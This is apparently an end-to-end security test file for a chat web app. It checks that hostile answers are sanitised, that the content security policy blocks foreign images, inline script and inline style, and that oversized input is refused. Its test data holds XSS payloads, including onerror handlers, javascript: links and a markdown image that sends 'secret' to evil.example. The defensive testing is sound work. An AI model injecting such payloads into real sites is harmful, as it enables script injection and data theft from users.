using Chameleon.Web.Answers;
using Chameleon.Web.Conversations;
using Chameleon.Web.Data;
using Microsoft.Extensions.DependencyInjection;

namespace Chameleon.e2e;

public sealed class SafetyTests(Site site) : IClassFixture<Site>
{
    private const string Hostile = """
        <script>window.hacked = 1</script>
        <img src=x onerror="window.hacked = 1">
        <svg onload="window.hacked = 1"></svg>
        <iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>

        ![x](http://evil.example/?q=secret) [a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>)

        | <img src=x onerror=window.hacked=1> |
        |---|
        | ![y](//evil.example/y.png) |

        ```"><script>window.hacked = 1</script>
        <script>window.hacked = 1</script>
        """;

    [Fact]
    public async Task Case_48_a_hostile_answer_does_nothing_and_asks_nobody()
    {
        var chats = site.Services.GetRequiredService<ChatStore>();
        var conversation = await chats.CreateAsync(UserId.Local, "<script>window.hacked = 1</script>");
        var question = await chats.AddMessageAsync(UserId.Local, conversation.Id, null, MessageRole.User, [new TextPart(Hostile)]);
        await chats.AddMessageAsync(UserId.Local, conversation.Id, question.Id, MessageRole.Assistant, [new TextPart(Hostile)]);
        var page = await site.OpenAsync();
        var asked = new List<string>();
        page.Request += (_, request) => asked.Add(request.Url);

        await page.GotoAsync($"{site.Address}/c/{conversation.Id}");
        await Site.ReadyAsync(page);
        await Assertions.Expect(page.Answers()).ToHaveCountAsync(1);

        Assert.True(await page.EvaluateAsync<bool>("() => window.hacked === undefined"));
        Assert.Empty(await page.Locator(".messages script, .messages iframe, .answer img, .messages [onerror], .messages [onload]").AllAsync());
        Assert.All(asked, url => Assert.StartsWith(site.Address, url.Replace("ws:", "http:", StringComparison.Ordinal), StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_policy_keeps_foreign_pictures_inline_script_and_inline_style_out()
    {
        var page = await site.OpenAsync();

        var refused = await page.EvaluateAsync<string[]>(
            """
            async () => {
              const refused = [];
              document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
              const image = document.createElement("img");
              image.src = "http://evil.example/x.png";
              const script = document.createElement("script");
              script.textContent = "window.hacked = 1";
              const style = document.createElement("style");
              style.textContent = "body { background: red }";
              document.body.append(image, script, style);
              while (refused.length < 3) {
                await new Promise(done => setTimeout(done, 20));
              }
              return refused.sort();
            }
            """);

        Assert.Equal(["img-src", "script-src-elem", "style-src-elem"], refused);
        Assert.True(await page.EvaluateAsync<bool>("() => window.hacked === undefined"));
    }

    [Fact]
    public async Task The_page_itself_breaks_none_of_its_own_rules()
    {
        var page = await site.OpenAsync();
        var complaints = new List<string>();
        page.Console += (_, message) =>
        {
            if (message.Type is "error" or "warning")
            {
                complaints.Add(message.Text);
            }
        };
        page.PageError += (_, error) => complaints.Add(error);

        await page.ReloadAsync();
        await Site.ReadyAsync(page);
        await page.Locator(".example").First.ClickAsync();
        await page.AnsweredAsync(1);
        await page.Locator("[data-open=settings]").ClickAsync();
        await page.Keyboard.PressAsync("Escape");
        await site.FillGalleryAsync(2, "rules");
        await page.GetByRole(AriaRole.Link, new() { Name = "Gallery", Exact = true }).ClickAsync();
        await page.Cell(0).ClickAsync();
        await page.Cell(1).ClickAsync(new() { Modifiers = [KeyboardModifier.Shift] });
        await page.Locator("[data-open=compare]").ClickAsync();
        await page.Locator("[data-compare]").PressAsync("ArrowLeft");
        await Assertions.Expect(page.Locator(".compare-over")).ToHaveCSSAsync("clip-path", "inset(0px 0px 0px 49%)");

        Assert.Empty(complaints);
    }

    [Fact]
    public async Task Case_54_a_page_that_sends_too_much_is_refused_and_goes_on()
    {
        var page = await site.OpenAsync();
        await page.Composer().EvaluateAsync("box => box.textContent = 'word '.repeat(100000)");
        await page.Composer().PressAsync("Enter");

        await Assertions.Expect(page.Locator(".dock .composer-problem")).ToContainTextAsync("256 KB");
        Assert.StartsWith("word word", await page.DraftAsync(), StringComparison.Ordinal);
    }
}
